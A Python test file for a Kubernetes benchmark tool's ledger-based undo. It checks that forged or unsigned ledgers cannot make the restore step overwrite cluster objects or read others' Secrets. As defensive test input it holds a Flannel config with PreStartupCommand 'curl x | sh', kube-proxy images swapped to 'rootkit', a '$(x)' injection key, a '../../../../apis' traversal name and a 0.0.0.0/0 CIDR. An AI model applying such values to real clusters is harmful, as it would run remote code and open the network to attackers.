"""Undoing is not a confused deputy: an administrator's rights write nothing for a ledger's author.

Each attack writes a ledger, into the cluster or a run directory, that asks for more than a driver
ever changes; what it names must come out as it went in, and be named as left.
"""

import asyncio
import base64
import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from support.apiserver.server import ApiServer
from support.cluster import Object, at, cluster, play, put

from podbench.campaign.cluster import restore
from podbench.model.errors import ConfigError
from podbench.target.kubernetes.api import fields
from podbench.target.kubernetes.api.client import Api
from podbench.target.kubernetes.api.refs import Ref, ref
from podbench.target.kubernetes.deploy import allowed, ledger, undo
from podbench.target.kubernetes.deploy.ledger import Entry, Field, Ledger
from podbench.target.kubernetes.deploy.undo import Listing, Undo

POOL: Object = {
    "apiVersion": "projectcalico.org/v3",
    "kind": "IPPool",
    "metadata": {"name": "default", "uid": "pool-1"},
    "spec": {"cidr": "10.244.0.0/16", "vxlanMode": "Never", "ipipMode": "Always"},
}
PROXY: Object = {
    "apiVersion": "apps/v1",
    "kind": "DaemonSet",
    "metadata": {"name": "kube-proxy", "namespace": "kube-system", "uid": "proxy-1"},
    "spec": {
        "selector": {"matchLabels": {}},
        "template": {"metadata": {}, "spec": {"containers": [{"name": "p", "image": "good"}]}},
    },
}
CONF = {"Network": "10.244.0.0/16", "Backend": {"Type": "host-gw"}}
FLANNEL: Object = {
    "apiVersion": "v1",
    "kind": "ConfigMap",
    "metadata": {"name": "kube-flannel-cfg", "namespace": "kube-flannel", "uid": "cfg-1"},
    "data": {"net-conf.json": json.dumps(CONF)},
}
DAEMONS: Object = {
    **copy.deepcopy(PROXY),
    "metadata": {"name": "kube-flannel-ds", "namespace": "kube-flannel", "uid": "ds-1"},
}
IMAGE = ("spec", "template", "spec", "containers", "name=p", "image")
NET_CONF = ("data", "net-conf.json")
MARK = ("spec", "template", "metadata", "annotations", "podbench.io/backend")


@pytest.fixture(autouse=True)
def _quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(undo, "LOOK_S", 0.02)


def _space(run: str = "r") -> Object:
    meta = {"name": "podbench", "labels": ledger.labels(run)}
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": meta, "status": {}}


def _set(body: Object, path: tuple[str, ...], value: Any) -> Object:
    return fields.written(body, {path: value})


def _flannel(**backend: object) -> str:
    return json.dumps({**CONF, "Backend": {**CONF["Backend"], **backend}})  # type: ignore[dict-item] # JSON


ATTACKS: dict[str, tuple[Object, tuple[str, ...], Any]] = {
    "an image of kube-proxy": (PROXY, IMAGE, "rootkit"),
    "an image of Flannel's own pods": (DAEMONS, IMAGE, "rootkit"),
    "a mark that is none": (DAEMONS, MARK, "x\ny"),
    "a pool's addresses": (POOL, ("spec", "cidr"), "0.0.0.0/0"),
    "a pool's mode that is none": (POOL, ("spec", "ipipMode"), {"$(x)": 1}),
    "a pool's labels": (POOL, ("metadata", "labels", "x"), "y"),
    "a backend that runs commands": (
        FLANNEL,
        NET_CONF,
        _flannel(Type="extension", PreStartupCommand="curl x | sh"),
    ),
    "a command beside the backend": (FLANNEL, NET_CONF, _flannel(PreStartupCommand="x")),
    "the network beside the backend": (
        FLANNEL,
        NET_CONF,
        json.dumps({**CONF, "Network": "0.0.0.0/0"}),
    ),
}


def _asked(body: Object, path: tuple[str, ...], value: Any) -> Entry:
    """A ledger's entry by which `value` was there before, and what is there now is ours."""
    return Entry(
        ref=ref(body),
        earlier=_set(body, path, value),
        fields=(Field(path, (fields.read(body, path),)),),
    )


@pytest.mark.parametrize("by", ["the cluster", "a directory"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_only_what_drivers_change_is_ever_written(tmp_path: Path, attack: str, by: str) -> None:
    """Even of a ledger that bears a fitting signature: the object stays, and is named."""
    body, path, value = ATTACKS[attack]
    entry = _asked(body, path, value)

    async def scene(server: ApiServer, api: Api) -> Listing:
        put(server, _space())
        put(server, copy.deepcopy(body))
        before = copy.deepcopy(at(server, body["kind"], *_place(body)))
        if by == "the cluster":
            forged = Ledger(api, "r", None)
            forged.plan([entry])
            await forged.publish()
        known = (entry,) if by == "a directory" else ()
        listing = await Undo(api, lambda _: None, own="t", run_id="r").run(known)
        assert _asked_for(at(server, body["kind"], *_place(body))) == _asked_for(before)
        assert not [
            each for each in server.requests if each.startswith("PUT") and "lease" not in each
        ]
        return listing

    found: list[Listing] = []

    async def kept(server: ApiServer, api: Api) -> None:
        found.append(await scene(server, api))

    play(tmp_path, kept)
    assert [each.ref for each in found[0].left] == [ref(body)]
    assert found[0].restored == ()


def _asked_for(body: Object | None) -> Object:
    """What of an object is asked for: controllers write its status, servers its versions."""
    held = body or {}
    return {name: held.get(name) for name in ("spec", "data")} | {
        "labels": held.get("metadata", {}).get("labels")
    }


def _place(body: Object) -> tuple[str, ...]:
    meta = body["metadata"]
    return (meta["name"], meta["namespace"]) if "namespace" in meta else (meta["name"],)


@pytest.mark.parametrize(
    "name",
    [
        Ref("Secret", "admin-token", "kube-system"),
        Ref("Namespace", "kube-system"),
        Ref("IPPool", "default-ipv4-ippool"),
        Ref("ConfigMap", "../../../../apis", "podbench"),
        Ref("Nonsense", "nonsense-x", "podbench"),
    ],
)
def test_objects_that_are_not_ours_are_not_even_looked_for(tmp_path: Path, name: Ref) -> None:
    """Neither removed, nor read: a ledger cannot make us ask for a Secret of others."""

    async def scene(server: ApiServer, api: Api) -> None:
        put(server, _space())
        listing = await Undo(api, lambda _: None, own="t", run_id="r").run(
            [Entry(ref=name, earlier=None)]
        )
        assert [each.ref for each in listing.left] == [name]
        assert not [each for each in server.requests if name.name in each]

    play(tmp_path, scene)


def test_a_ledger_that_no_run_signed_changes_nothing_of_others(tmp_path: Path) -> None:
    """Whoever writes ConfigMaps there, and reads no Secrets, cannot choose what is put back."""
    entry = _asked(POOL, ("spec", "vxlanMode"), "Always")

    async def scene(server: ApiServer, api: Api) -> None:
        put(server, _space())
        put(server, copy.deepcopy(POOL))
        written = Ledger(api, "r", None)
        written.plan([entry])
        await written.publish()
        forged = at(server, "ConfigMap", "podbench-ledger", "podbench")
        assert forged is not None
        assert await ledger.is_signed(api, "r")
        assert not await ledger.is_signed(api, "another")
        forged["data"]["entries.json"] = forged["data"]["entries.json"].replace(
            "Always", "CrossSubnet"
        )
        put(server, forged)
        assert not await ledger.is_signed(api, "r")
        listing = await Undo(api, lambda _: None, own="t").run()
        assert ["not signed" in each.why for each in listing.left] == [True]
        assert at(server, "IPPool", "default")["spec"] == POOL["spec"]  # type: ignore[index] # there

    play(tmp_path, scene)


def test_a_directory_s_own_ledger_goes_before_the_cluster_s(tmp_path: Path) -> None:
    """What the run wrote down on disk cannot be overruled by what lies in the cluster."""
    good, bad = (_asked(POOL, ("spec", "vxlanMode"), value) for value in ("Always", "CrossSubnet"))

    async def scene(server: ApiServer, api: Api) -> None:
        put(server, _space())
        before = put_as_podbench(server, POOL)
        good_entry = msgspec.structs.replace(good, earlier={**good.earlier, "metadata": before})  # type: ignore[dict-item] # set
        written = Ledger(api, "r", None)
        written.plan([bad])
        await written.publish()
        listing = await Undo(api, lambda _: None, own="t", run_id="r").run([good_entry])
        assert [str(each) for each in listing.restored] == ["IPPool default"]
        assert at(server, "IPPool", "default")["spec"]["vxlanMode"] == "Always"  # type: ignore[index] # there

    play(tmp_path, scene)


def put_as_podbench(server: ApiServer, body: Object, manager: str = "podbench") -> Object:
    """Puts an object whose specification this manager wrote; its metadata."""
    owned: Object = {"f:spec": {f"f:{name}": {} for name in body["spec"]}}
    entry = {"manager": manager, "operation": "Update", "fieldsV1": owned}
    made = copy.deepcopy(body)
    made["metadata"]["managedFields"] = [entry]
    put(server, made)
    held = at(server, body["kind"], *_place(body))
    assert held is not None
    meta: Object = held["metadata"]
    return meta


@pytest.mark.parametrize(("manager", "written"), [("podbench", True), ("kubectl-edit", False)])
def test_a_field_that_somebody_else_wrote_last_is_theirs(
    tmp_path: Path, manager: str, written: bool
) -> None:
    """The API server knows who wrote a field: a forged ledger cannot claim that we did."""

    async def scene(server: ApiServer, api: Api) -> None:
        put(server, _space())
        meta = put_as_podbench(server, POOL, manager)
        entry = _asked(POOL, ("spec", "vxlanMode"), "Always")
        known = msgspec.structs.replace(entry, earlier={**entry.earlier, "metadata": meta})  # type: ignore[dict-item] # set
        listing = await Undo(api, lambda _: None, own="t", run_id="r").run([known])
        assert bool(listing.restored) == written
        assert ["last written by 'kubectl-edit'" in each.why for each in listing.left] == (
            [] if written else [True]
        )

    play(tmp_path, scene)


@pytest.mark.parametrize(
    "path",
    [("spec", "vxlanMode"), ("spec", "ipipMode")],
)
def test_what_drivers_change_is_allowed(path: tuple[str, ...]) -> None:
    """Calico's pools and Installation, Flannel's settings and mark: as their recipes have them."""
    assert allowed.refused_change(ref(POOL), POOL, {path: ("Always", "Never")}) is None
    cidr = ("spec", "calicoNetwork", "ipPools", "cidr=10.244.0.0/16", "encapsulation")
    installation = {"kind": "Installation", "metadata": {"name": "default"}, "spec": {}}
    given: dict[tuple[str, ...], tuple[Any, ...]] = {cidr: ("VXLAN", "IPIP", "None")}
    assert allowed.refused_change(ref(installation), installation, given) is None
    given = {NET_CONF: (_flannel(Type="vxlan"), _flannel(Type="vxlan", DirectRouting=True))}
    assert allowed.refused_change(ref(FLANNEL), FLANNEL, given) is None
    assert allowed.refused_change(ref(DAEMONS), DAEMONS, {MARK: ("vxlan", "host-gw")}) is None


def test_a_directory_is_held_to_its_server_whatever_context_is_named(tmp_path: Path) -> None:
    """`bench restore DIR --context OTHER`: another cluster's directory changes nothing there."""
    folder = tmp_path / "run"
    folder.mkdir()
    where = {"context": "theirs", "server": "https://192.0.2.1:6443"}
    begun = {"run_id": "r", "target": "kubernetes", "cluster": where, "options": {}}
    (folder / "run.json").write_text(json.dumps(begun))

    async def scene() -> None:
        async with cluster(tmp_path) as (server, api):
            server.requests.clear()
            wanted = restore.Wanted(run=folder, context=api.context.name)
            with pytest.raises(ConfigError, match=r"the run began at https://192\.0\.2\.1:6443"):
                await asyncio.to_thread(restore.restore, wanted, lambda _: None, None)
            assert not server.requests

    asyncio.run(asyncio.wait_for(scene(), 60))


CHANGES: dict[str, Callable[[Object], object]] = {
    "other data": lambda body: body["data"].update({"key": base64.b64encode(b"x" * 32).decode()}),
    "no key": lambda body: body["data"].clear(),
    "a short key": lambda body: body["data"].update({"key": ""}),
    "no base64": lambda body: body["data"].update({"key": "%%%"}),
    "another run's": lambda body: body["metadata"]["labels"].update({"podbench.io/run": "x"}),
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_signature_takes_the_run_s_own_key(tmp_path: Path, change: str) -> None:
    """Any other Secret does not fit."""

    async def scene(server: ApiServer, api: Api) -> None:
        put(server, _space())
        await Ledger(api, "r", None).publish()
        assert await ledger.is_signed(api, "r")
        secret = at(server, "Secret", "podbench-ledger", "podbench")
        assert secret is not None
        CHANGES[change](secret)
        put(server, secret)
        assert not await ledger.is_signed(api, "r")

    play(tmp_path, scene)
